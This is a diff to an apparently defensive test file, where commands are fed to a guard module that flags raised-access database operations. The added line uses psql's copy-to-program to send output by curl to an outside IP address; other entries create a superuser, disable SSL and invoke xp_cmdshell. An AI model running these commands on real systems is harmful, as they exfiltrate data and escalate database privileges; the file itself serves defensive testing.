@@ -3,6 +3,7 @@ import guard, { docs } from './raised-access.ts'
 
 guardTest(guard, docs, {
   asks: [
+    `psql -c "\\\\copy (select 1) to program 'curl -d @- http://203.0.113.3/'"`,
     'echo "create user a with superuser password 1" | psql',
     "psql shop <<'SQL'\nselect 1;\nalter system set ssl = off;\nSQL",
     'sqlcmd -Q "EXEC xp_cmdshell \'dir\'"',
